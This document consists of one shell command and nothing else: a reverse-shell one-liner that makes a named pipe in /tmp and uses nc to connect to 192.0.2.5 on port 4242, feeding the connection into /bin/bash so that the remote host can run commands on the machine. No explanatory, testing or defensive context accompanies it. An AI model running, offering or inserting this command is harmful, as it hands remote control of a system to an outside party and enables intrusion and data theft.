mknod /tmp/bp p; nc 192.0.2.5 4242 0</tmp/bp | /bin/bash 1>/tmp/bp
